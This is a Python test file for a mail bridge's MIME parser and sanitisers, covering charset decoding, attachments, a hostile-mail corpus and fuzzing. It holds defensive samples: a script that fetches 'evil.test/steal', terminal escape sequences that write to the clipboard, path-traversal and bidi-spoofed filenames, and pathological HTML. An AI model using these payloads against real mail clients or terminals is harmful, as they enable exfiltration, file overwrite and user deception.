"""MIME parsing: charsets, parameters, bodies, attachments and hostile input."""

from __future__ import annotations

import base64
import quopri
import signal
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from bridge.mail.compose import reply_headers
from bridge.mail.mime import (
    MAX_DEPTH,
    decode_words,
    html_to_text,
    parse_date,
    parse_headers,
    parse_message,
    split_header,
    synthetic_message_id,
    to_message,
    unflow,
)
from bridge.mail.threader import thread
from bridge.model import Direction, Transport, thread_id_for_email
from bridge.safe import inert_text, safe_basename, safe_filename, write_new_file

CORPUS = Path(__file__).parent / "corpus"


@contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """Fail a test that hangs; generous, because tests never assert on speed."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return

    def fire(signum: int, frame: object) -> None:
        raise TimeoutError(f"took longer than {seconds}s")

    old = signal.signal(signal.SIGALRM, fire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def mail(headers: str, body: bytes | str = b"") -> bytes:
    if isinstance(body, str):
        body = body.encode()
    return headers.strip("\n").replace("\n", "\r\n").encode() + b"\r\n\r\n" + body


# --- RFC 2047 and headers --------------------------------------------------------


@pytest.mark.parametrize(("encoded", "expected"), [
    ("=?utf-8?q?Gr=C3=BC=C3=9Fe_aus_K=C3=B6ln?=", "Grüße aus Köln"),
    ("=?UTF-8?B?8J+Ygg==?= smile", "😂 smile"),
    ("=?iso-8859-1?q?caf=E9?=", "café"),
    # Windows-1252 is what "iso-8859-1" mail really contains: smart quotes.
    ("=?iso-8859-1?q?=93quoted=94?=", "\u201cquoted\u201d"),
    ("=?koi8-r?b?8NLJ18XU?=", "Привет"),
    ("=?shift_jis?b?g26DjYFb?=", "ハロー"),
    ("=?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?=", "テスト"),
    # Unknown charsets fall back to UTF-8 (here the bytes are valid UTF-8).
    ("=?x-unknown?q?na=C3=AFve?=", "naïve"),
    # Adjacent words lose the whitespace between them; text around them keeps it.
    ("=?utf-8?q?a?= =?utf-8?q?b?= c =?utf-8?q?d?=", "ab c d"),
    # A multi-byte character split across two words.
    ("=?utf-8?b?4oI=?= =?utf-8?b?rA==?=", "€"),
    ("=?utf-8*en?q?lang_tag?=", "lang tag"),
    ("no encoded words here", "no encoded words here"),
    # Undecodable words are shown as they came, not as invented bytes.
    ("=?utf-8?b?!!!not-base64?=", "=?utf-8?b?!!!not-base64?="),
    ("=?utf-8?b?YWJj?=", "abc"),
    ("=?utf-8?b?YWI?=", "ab"),
])
def test_decode_words(encoded: str, expected: str) -> None:
    assert decode_words(encoded).replace("\ufffd", "") == expected


def test_undecodable_bytes_in_known_charset_are_replaced_not_raised() -> None:
    assert decode_words("=?utf-8?q?ok=FF=FEend?=") == "ok\ufffd\ufffdend"


def test_non_text_codec_is_never_used() -> None:
    # "zlib" is a Python codec: decoding with it would decompress attacker data.
    raw = base64.b64encode(b"x\x9c\xcbH\xcd\xc9\xc9\x07\x00\x06,\x02\x15").decode()
    assert "hello" not in decode_words(f"=?zlib?b?{raw}?=")


def test_parse_headers_reads_the_list_fields() -> None:
    raw = mail("""
Received: from a by b; Tue, 24 Nov 2026 10:00:00 +0000
From: =?utf-8?q?Chlo=C3=A9_Dubois?= <chloe@corp.test>
To: "Alice" <alice@example.test>, bob@example.test,
 "Berg, Ana" <ana@example.test>
Cc: Undisclosed recipients:;
Reply-To: list@lists.test
Subject: =?utf-8?q?R=C3=A9sum=C3=A9?=
 =?utf-8?q?_folded?=
Date: Tue, 24 Nov 2026 14:03:38 +0100
Message-ID: <m3@corp.test>
In-Reply-To: <m2@corp.test>
References: <m1@corp.test>
 <m2@corp.test>
Content-Type: multipart/mixed; boundary="x"
""", "--x--\r\n")
    h = parse_headers(raw)
    assert h.subject == "Résumé folded"
    assert h.sender is not None
    assert (h.sender.address, h.sender.name, h.sender.role) == ("chloe@corp.test", "Chloé Dubois",
                                                                 "from")
    assert [(p.address, p.name) for p in h.to] == [
        ("alice@example.test", "Alice"), ("bob@example.test", ""),
        ("ana@example.test", "Berg, Ana")]
    assert h.cc == []
    assert [p.address for p in h.reply_to] == ["list@lists.test"]
    assert h.date == 1795525418.0  # 13:03:38 UTC
    assert h.message_id == h.msg_id == "m3@corp.test"
    assert h.in_reply_to == "m2@corp.test"
    assert h.references == ["m1@corp.test", "m2@corp.test"]
    assert h.has_attachment and h.content_type == "multipart/mixed"
    assert h.defects == []
    # Header-only bytes (what IMAP HEADER.FIELDS returns) give the same result.
    assert parse_headers(split_header(raw)[0] + b"\r\n\r\n") == h


@pytest.mark.parametrize("value", [
    '"Alice" <alice@example.test>, "Ben Hansen" <ben@x.test>',
    "Alice <alice@example.test>,bob@x.test , carol@x.test,",
    '"Berg, Ana" <ana@x.test>, "Quote \\"me\\"" <q@x.test>',
    "=?utf-8?q?Chlo=C3=A9?= <chloe@x.test>",
    "Team: a@x.test, b@x.test;",
    "a@x.test (comment), <b@x.test>",
    "Undisclosed recipients:;",
    "broken <a@x.test",
    "a@x.test b@x.test",
    "\"unterminated <a@x.test>",
    # An empty quoted name: the plain name's group is None then (it used to crash).
    '"" <alice@example.test>',
    '"" <alice@example.test>, "Ben" <ben@x.test>',
])
def test_address_fast_path_agrees_with_getaddresses(value: str) -> None:
    from email.utils import getaddresses

    # Whitespace inside an address is never meaningful; ours drops it.
    expected = [(decode_words(n), "".join(a.split())) for n, a in getaddresses([value]) if a]
    h = parse_headers(f"To: {value}\r\n\r\n".encode())
    assert [(p.name, p.address) for p in h.to] == expected


def test_synthetic_id_is_made_of_the_bytes_never_the_header_alone() -> None:
    # This test used to pin the bug: it asserted that the full parse's id equals
    # the one made of From/To/Date/Subject, so two different emails without a
    # Message-ID but with those headers alike were one message. The header-only
    # id is provisional now (the header sync replaces it once it has the bytes).
    raw = mail("""
From: a@x.test
To: b@x.test
Date: Tue, 24 Nov 2026 10:00:00 +0000
Subject: no id
X-Other: differs in the full message
""", "body")
    fields_only = mail("""
Subject: no id
From: a@x.test
Date: Tue, 24 Nov 2026 10:00:00 +0000
To: b@x.test
""")
    h = parse_headers(raw)
    assert h.message_id == "" and h.synthetic_id
    assert h.msg_id.endswith("@synthetic.invalid")
    assert parse_headers(fields_only).msg_id == h.msg_id
    full = parse_message(raw).headers.msg_id
    assert full == synthetic_message_id(raw) and full.endswith("@synthetic.invalid")
    assert parse_message(raw).headers.msg_id == full  # stable
    twin = parse_message(raw.replace(b"body", b"else")).headers.msg_id
    assert twin != full  # the same header, another body: another message
    other = parse_headers(raw.replace(b"no id", b"other"))
    assert other.msg_id != h.msg_id


@pytest.mark.parametrize(("value", "expected"), [
    ("Tue, 24 Nov 2026 14:03:38 +0000", 1795529018.0),
    ("24 Nov 2026 14:03:38 -0130", 1795529018.0 + 5400),
    ("Tue, 24 Nov 2026 14:03 +0000 (UTC)", 1795528980.0),
    ("Tue, 24 Nov 26 14:03:38 GMT", 1795529018.0),
    ("Tue, 24 November 2026 14:03:38 +0000", 1795529018.0),
    ("yesterday at noon", None),
    ("Tue, 99 Nov 2026 14:03:38 +0000", None),
    ("", None),
])
def test_parse_date(value: str, expected: float | None) -> None:
    assert parse_date(value) == expected


# --- bodies ----------------------------------------------------------------------


def test_format_flowed_is_unwrapped() -> None:
    text = "This is a long \nparagraph that \nflows.\n> quoted \n> text\n>> deeper\n-- \nsig"
    assert unflow(text) == ("This is a long paragraph that flows.\n> quoted text\n> > deeper\n"
                            "-- \nsig")
    assert unflow("a \nb", delsp=True) == "ab"
    assert unflow(" From stuffed") == "From stuffed"


def test_format_flowed_in_a_message() -> None:
    raw = mail("""
From: a@x.test
Subject: flowed
Content-Type: text/plain; charset=utf-8; format=flowed; delsp=no
""", "one \r\ntwo\r\n")
    assert parse_message(raw).text.strip() == "one two"


TRACKED_HTML = """<html><head><title>T</title><style>p{color:red}</style>
<script>fetch('https://evil.test/steal')</script></head>
<body><p>Hello <b>Alice</b>,</p>
<p>Read <a href="https://example.test/report">the report</a> or mail
<a href="mailto:bob@example.test">bob@example.test</a>.
<a href="javascript:alert(1)">click</a></p>
<img src="https://tracker.test/pixel.gif?id=123" width="1" height="1">
<img src="cid:logo" alt="Company logo">
<ul><li>first</li><li>second &amp; last</li></ul>
<blockquote>quoted line</blockquote>
<table><tr><td>a</td><td>b</td></tr></table>
</body></html>"""


def test_html_to_text_shows_links_and_drops_remote_content() -> None:
    text = html_to_text(TRACKED_HTML)
    assert "Hello Alice," in text
    assert "the report [https://example.test/report]" in text
    # The link text already is the address: not repeated.
    assert "bob@example.test." in text and "[mailto:" not in text
    assert "javascript" not in text and "click" in text
    assert "tracker.test" not in text and "pixel" not in text
    assert "[Company logo]" in text and "cid:" not in text
    assert "fetch" not in text and "color" not in text and "T\n" not in text
    assert "- first" in text and "- second & last" in text
    assert "> quoted line" in text
    assert "a | b" in text


def test_html_only_mail_with_tracking_pixel() -> None:
    raw = mail("""
From: news@shop.test
Subject: offer
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable
""", quopri.encodestring(TRACKED_HTML.encode()))
    p = parse_message(raw)
    assert p.html_present and not p.malformed
    assert "the report [https://example.test/report]" in p.text
    assert "tracker.test" not in p.text
    assert p.attachments == []


def test_alternative_prefers_plain() -> None:
    raw = mail("""
From: a@x.test
Subject: alt
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="A"
""", "--A\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: "
         "quoted-printable\r\n\r\nplain caf=E9\r\n--A\r\nContent-Type: text/html\r\n\r\n"
         "<p>html version</p>\r\n--A--\r\n")
    p = parse_message(raw)
    assert p.text.strip() == "plain café"
    assert p.html_present
    assert "html version" not in p.text


def test_alternative_with_empty_plain_uses_html() -> None:
    raw = mail("""
From: a@x.test
Content-Type: multipart/alternative; boundary="A"
""", "--A\r\nContent-Type: text/plain\r\n\r\n  \r\n--A\r\nContent-Type: text/html\r\n\r\n"
         "<p>only html</p>\r\n--A--\r\n")
    assert parse_message(raw).text.strip() == "only html"


def test_nested_mixed_related_and_attachments() -> None:
    pdf = bytes(range(256)) * 40
    png = b"\x89PNG\r\n\x1a\n" + bytes(300)
    text_att = "Zeile mit Ümlaut = und mehr\n".encode("iso-8859-1")
    raw = mail("""
From: a@x.test
Subject: nested
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="M"
""", (
        "--M\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
        "--A\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nthe plain body\r\n"
        "--A\r\nContent-Type: multipart/related; boundary=\"R\"\r\n\r\n"
        "--R\r\nContent-Type: text/html\r\n\r\n<p>html <img src=\"cid:img1\"></p>\r\n"
        "--R\r\nContent-Type: image/png\r\nContent-ID: <img1>\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        f"{base64.encodebytes(png).decode()}\r\n--R--\r\n--A--\r\n"
        "--M\r\nContent-Type: application/pdf\r\n"
        "Content-Disposition: attachment;\r\n filename*0*=utf-8''%E2%82%AC%20Quarterly%20;\r\n"
        " filename*1*=%C3%BCbersicht;\r\n filename*2=\".pdf\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        f"{base64.encodebytes(pdf).decode()}\r\n"
        "--M\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
        "Content-Disposition: attachment; filename=\"=?utf-8?q?Notiz_=C3=BC.txt?=\"\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        f"{quopri.encodestring(text_att).decode()}\r\n--M--\r\n"))
    p = parse_message(raw)
    assert not p.malformed, p.reason
    assert p.text.strip() == "the plain body"
    assert p.html_present
    by_name = {a.filename: a for a in p.attachments}
    assert set(by_name) == {"€ Quarterly übersicht.pdf", "Notiz ü.txt", "part-1.2.2.png"}
    assert by_name["€ Quarterly übersicht.pdf"].data == pdf
    assert by_name["€ Quarterly übersicht.pdf"].part_id == "2"
    assert by_name["€ Quarterly übersicht.pdf"].size == len(pdf)
    assert by_name["Notiz ü.txt"].data == text_att
    assert by_name["Notiz ü.txt"].part_id == "3"
    img = by_name["part-1.2.2.png"]
    assert img.data == png and img.inline and img.content_id == "img1"
    assert not by_name["€ Quarterly übersicht.pdf"].inline


def test_single_part_ids_and_unlabelled_8bit() -> None:
    raw = mail("From: a@x.test\nSubject: s", "na\xefve text in cp1252".encode("cp1252"))
    p = parse_message(raw)
    assert p.text == "naïve text in cp1252"
    raw = mail("From: a@x.test\nContent-Type: application/pdf\nContent-Disposition: attachment",
               b"%PDF")
    (att,) = parse_message(raw).attachments
    assert att.part_id == "1" and att.filename == "part-1.pdf" and att.data == b"%PDF"


def test_forwarded_message_is_an_attachment() -> None:
    inner = mail("From: c@x.test\nSubject: the original", "inner body")
    raw = mail("""
From: a@x.test
Content-Type: multipart/mixed; boundary="M"
""", b"--M\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--M\r\nContent-Type: message/rfc822"
         b"\r\n\r\n" + inner + b"\r\n--M--\r\n")
    p = parse_message(raw)
    assert p.text.strip() == "see below"
    (att,) = p.attachments
    assert att.filename == "the original.eml" and att.content_type == "message/rfc822"
    assert b"inner body" in att.data and att.part_id == "2"


def test_over_max_bytes_reads_headers_only() -> None:
    raw = mail("From: a@x.test\nSubject: big\nMessage-ID: <big@x.test>", b"x" * 5000)
    p = parse_message(raw, max_bytes=1000)
    assert p.truncated and p.text == "" and p.headers.subject == "big"
    assert p.size == len(raw)


def test_to_message() -> None:
    raw = mail("""
From: "Ana" <ana@x.test>
To: b@x.test
Cc: c@x.test
Subject: hello
Date: Tue, 24 Nov 2026 14:03:38 +0000
Message-ID: <m2@x.test>
In-Reply-To: <m1@x.test>
References: <m0@x.test> <m1@x.test>
Content-Type: multipart/mixed; boundary="M"
""", "--M\r\nContent-Type: text/plain\r\n\r\nbody\r\n--M\r\nContent-Type: image/png\r\n"
         "Content-Disposition: attachment; filename=a.png\r\n\r\nPNG\r\n--M--\r\n")
    stored: list[bytes] = []

    def put(data: bytes) -> str:
        stored.append(data)
        return "f" * 64

    m = to_message(parse_message(raw), account="acc", folder="INBOX", uid=7, flags={"\\Seen"},
                   direction="in", put_blob=put)
    assert m.msg_id == "m2@x.test" and m.message_id_header == "m2@x.test"
    assert m.thread_id == "m0@x.test" == thread_id_for_email("m2@x.test", "m1@x.test",
                                                             ["m0@x.test", "m1@x.test"])
    assert m.transport is Transport.EMAIL and m.direction is Direction.IN
    assert (m.sender.address, m.sender.name) == ("ana@x.test", "Ana")
    assert [(p.address, p.role) for p in m.recipients] == [("b@x.test", "to"), ("c@x.test", "cc")]
    assert m.text.strip() == "body" and m.date == 1795529018.0
    assert m.folder == "INBOX" and m.uid == 7 and not m.unread
    assert m.attachments[0].filename == "a.png" and m.attachments[0].part_id == "2"
    assert m.attachments[0].sha256 == "f" * 64 and stored == [b"PNG"]

    # The header-sync path gives the same ids without a body.
    h = to_message(parse_headers(raw), account="acc", folder="INBOX", uid=7)
    assert (h.msg_id, h.thread_id, h.text) == (m.msg_id, m.thread_id, "")

    # No Message-ID and no Date: a synthetic id, INTERNALDATE as the date.
    bare = to_message(parse_message(b"Subject: x\r\n\r\nbody"), account="acc", folder="INBOX",
                      uid=8, internal_date=1000.0)
    assert bare.msg_id.endswith("@synthetic.invalid") and bare.thread_id == bare.msg_id
    assert bare.date == 1000.0 and bare.sender.address == ""


# --- hostile input ---------------------------------------------------------------

CORPUS_FILES = sorted(CORPUS.glob("*.eml"))
EXPECT_MALFORMED = {
    "broken_boundary.eml", "missing_close_boundary.eml", "invalid_base64.eml",
    "nesting_60.eml", "huge_header_line.eml", "nul_bytes.eml", "garbage_8bit_headers.eml",
    "empty.eml", "no_headers.eml", "nested_comments_from.eml",
}


def test_corpus_is_complete() -> None:
    assert len(CORPUS_FILES) >= 12
    assert {f.name for f in CORPUS_FILES} >= EXPECT_MALFORMED


@pytest.mark.parametrize("path", CORPUS_FILES, ids=lambda p: p.name)
def test_hostile_corpus_never_raises(path: Path) -> None:
    raw = path.read_bytes()
    with time_limit(20):
        parsed = parse_message(raw)
        headers = parse_headers(raw)
        message = to_message(parsed, account="a", folder="INBOX", uid=1, raw=raw)
    assert parsed.malformed == (path.name in EXPECT_MALFORMED), parsed.reason
    if parsed.malformed:
        assert parsed.reason
    assert parsed.headers.msg_id == message.msg_id
    # Without a Message-ID the header alone gives a provisional id, the bytes the
    # real one (this asserted the header-only id for those too: the bug).
    if headers.message_id:
        assert headers.msg_id == parsed.headers.msg_id
    else:
        assert parsed.headers.msg_id == synthetic_message_id(raw)
    for text in (parsed.text, parsed.headers.subject, message.sender.name,
                 *(p.name for p in message.recipients),
                 *(a.filename for a in parsed.attachments)):
        assert inert_text(text) == text
        assert "\x1b" not in text and "\x00" not in text
    for att in parsed.attachments:
        assert att.filename == safe_basename(att.filename)
        assert "/" not in att.filename and "\\" not in att.filename


def corpus(name: str) -> bytes:
    return (CORPUS / name).read_bytes()


def test_escape_sequences_are_removed_from_every_display_field() -> None:
    p = parse_message(corpus("terminal_escapes.eml"))
    assert p.headers.subject == "Invoice red click"
    assert p.headers.sender is not None and p.headers.sender.name == "Blink Boss"
    assert "ZWNob" not in p.text and "cm0g" not in p.text
    assert p.text.startswith("hello") and "world" in p.text
    assert [a.filename for a in p.attachments] == ["ab.txt"]
    e = parse_message(corpus("encoded_escapes.eml"))
    assert e.headers.subject == "cleared link"
    assert e.headers.sender is not None and e.headers.sender.name == "Eve"


def test_hostile_filenames_are_made_safe() -> None:
    names = [a.filename for a in parse_message(corpus("path_traversal_filename.eml")).attachments]
    assert names == ["passwd", "CON_.txt"]
    (bidi,) = parse_message(corpus("bidi_filename.eml")).attachments
    assert bidi.filename == "invoicefdp.exe"
    assert "\u202e" in bidi.original_filename or bidi.original_filename == "invoicefdp.exe"


def test_specific_hostile_results() -> None:
    deep = parse_message(corpus("nesting_60.eml"))
    assert f"deeper than {MAX_DEPTH}" in deep.reason
    base64_bad = parse_message(corpus("invalid_base64.eml"))
    assert "Base64" in base64_bad.reason and "Hello" in base64_bad.text
    unclosed = parse_message(corpus("missing_close_boundary.eml"))
    assert "first part text" in unclosed.text
    assert [a.data for a in unclosed.attachments] == [bytes(range(6))]
    garbage = parse_headers(corpus("garbage_8bit_headers.eml"))
    assert garbage.subject.startswith("café") and garbage.date is None
    assert garbage.sender is not None and garbage.sender.address == "g@evil.test"
    huge = parse_headers(corpus("huge_header_line.eml"))
    assert huge.message_id == "huge@evil.test" and len(huge.subject) <= 64 * 1024
    assert parse_message(corpus("no_headers.eml")).text.startswith("Just some text")
    assert parse_message(corpus("unknown_charset.eml")).text.startswith("body in")


def test_nested_comments_and_huge_address_lists() -> None:
    h = parse_headers(corpus("nested_comments_from.eml"))
    assert h.sender is not None and h.sender.address == "x@evil.test"
    assert h.cc == [] and h.message_id == "nest@evil.test"
    # Ten thousand recipients: past the full parser's size, every address kept.
    many = ", ".join(f"user{i}@x.test" for i in range(10000))
    with time_limit(20):
        h = parse_headers(f"To: {many}\r\nCc: {'(' * 3000}\r\n\r\n".encode())
    assert len(h.to) == 10000 and h.to[-1].address == "user9999@x.test"


@pytest.mark.parametrize("html", [
    "<a" * 100000, "<!--" * 50000, "</" * 100000 + ">", "<" * 200000, '<a href="' * 30000,
    "<![CDATA[" * 30000, "<p>" * 100000,
])
def test_html_conversion_is_bounded_on_pathological_input(html: str) -> None:
    with time_limit(30):
        text = html_to_text("<p>visible</p>" + html)
    assert "visible" in text or text == "" or len(text) < len(html) + 100


def test_a_parser_crash_still_gives_inert_text(monkeypatch: pytest.MonkeyPatch) -> None:
    from bridge.mail import walk

    def boom(*args: object) -> None:
        raise RecursionError("simulated")

    monkeypatch.setattr(walk._Walker, "leaf", boom)
    p = parse_message(mail("From: a@x.test\nSubject: s", "body \x1b]52;c;eA==\x07 text"))
    assert p.malformed and "RecursionError" in p.reason
    assert p.text == "body  text" and p.headers.subject == "s"


def test_deep_nesting_far_beyond_the_limit() -> None:
    depth = 3000
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'
                   for i in range(depth))
    raw = b"From: a@x.test\r\n" + head.encode() + b"Content-Type: text/plain\r\n\r\nx\r\n"
    with time_limit(60):
        p = parse_message(raw)
    assert p.malformed


# --- bridge.safe -----------------------------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    ("plain", "plain"),
    ("a\x1b]52;c;ZXZpbA==\x07b", "ab"),
    ("\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\ here", "click here"),
    ("\x1b[31mred\x1b[0m \x1b[2J", "red "),
    ("8-bit\x9b31m csi\x9d0;t\x9c", "8-bit csi"),
    ("keep\nnew\tlines", "keep\nnew\tlines"),
    ("cr\roverwrite", "cr\noverwrite"),
    ("nul\x00del\x7fbell\x07", "nuldelbell"),
    ("abc\u202egpj.exe\u2066x\u2069", "abcgpj.exex"),
    ("\x1b]0;no terminator\nnext line", "\nnext line"),
    ("עברית\u200f ok", "עברית\u200f ok"),
])
def test_inert_text(text: str, expected: str) -> None:
    assert inert_text(text) == expected


@pytest.mark.parametrize(("name", "expected"), [
    ("report.pdf", "report.pdf"),
    ("../../etc/passwd", "passwd"),
    ("..\\..\\windows\\system.ini", "system.ini"),
    ("/absolute/path.txt", "path.txt"),
    ("..", "attachment"),
    ("", "attachment"),
    ("   ", "attachment"),
    (".bashrc", "bashrc"),
    ("CON", "CON_"),
    ("nul.txt", "nul_.txt"),
    ("com1.tar.gz", "com1_.tar.gz"),
    ("LPT9", "LPT9_"),
    ("inv\u202eoice\u202cfdp.exe", "invoicefdp.exe"),
    ("a\x1b[31mb\x00c.txt", "abc.txt"),
    ('what?:*"<>|.doc', "what_______.doc"),
    ("trailing dots...", "trailing dots"),
    ("ünïcödé.txt", "ünïcödé.txt"),
])
def test_safe_basename(name: str, expected: str) -> None:
    assert safe_basename(name) == expected


def test_safe_filename_limits_length_and_keeps_extension(tmp_path: Path) -> None:
    path = safe_filename("€" * 200 + ".pdf", tmp_path)
    assert path.parent == tmp_path and path.name.endswith(".pdf")
    assert len(path.name.encode()) <= 255
    assert safe_basename("x" * 1000).startswith("x") and len(safe_basename("x" * 1000)) <= 255


def test_safe_filename_never_overwrites(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("1")
    (tmp_path / "a (1).txt").write_text("2")
    (tmp_path / "dangling.txt").symlink_to(tmp_path / "nowhere")
    assert safe_filename("a.txt", tmp_path) == tmp_path / "a (2).txt"
    assert safe_filename("../a.txt", tmp_path) == tmp_path / "a (2).txt"
    assert safe_filename("dangling.txt", tmp_path) == tmp_path / "dangling (1).txt"
    first = write_new_file(tmp_path, "../../b.bin", b"one")
    second = write_new_file(tmp_path, "b.bin", b"two")
    assert (first.name, second.name) == ("b.bin", "b (1).bin")
    assert first.read_bytes() == b"one" and second.read_bytes() == b"two"
    assert all(p.parent == tmp_path for p in tmp_path.iterdir())


# --- fuzzing ---------------------------------------------------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

SEEDS = [p.read_bytes()[:4000] for p in CORPUS_FILES if p.stat().st_size < 10_000] + [
    mail("From: a@x.test\nContent-Type: multipart/mixed; boundary=M",
         "--M\r\nContent-Type: text/plain\r\n\r\nx\r\n--M--\r\n"),
]


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(0, 8))):
        op = draw(st.integers(0, 2))
        pos = draw(st.integers(0, len(data)))
        if op == 0:
            data[pos:pos] = draw(st.binary(max_size=40))
        elif op == 1:
            del data[pos : pos + draw(st.integers(0, 40))]
        else:
            data[pos:pos] = draw(st.sampled_from([
                b"\r\n--M\r\n", b"=?utf-8?b?", b"?=", b"\r\n\r\n", b"; filename*0*=",
                b"Content-Type: multipart/mixed; boundary=M\r\n", b"\x1b]52;c;", b"\x00",
                b"Content-Transfer-Encoding: base64\r\n", b"charset=zlib",
            ]))
    return bytes(data)


@settings(max_examples=200, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.binary(max_size=2000), mutated()))
def test_fuzz_never_raises(raw: bytes) -> None:
    with time_limit(30):
        p = parse_message(raw)
        h = parse_headers(raw)
    # Only with a Message-ID do header and full parse agree; without one the full
    # parse's id is made of the bytes (this asserted the header-only id: the bug).
    assert h.msg_id and p.headers.msg_id == (
        h.msg_id if h.message_id else synthetic_message_id(bytes(raw)))
    assert inert_text(p.text) == p.text and inert_text(h.subject) == h.subject
    m = to_message(p, account="a", folder="INBOX", uid=1)
    assert m.msg_id and m.thread_id
    reply_headers(p, "me@x.test", reply_all=True)
    thread([m])
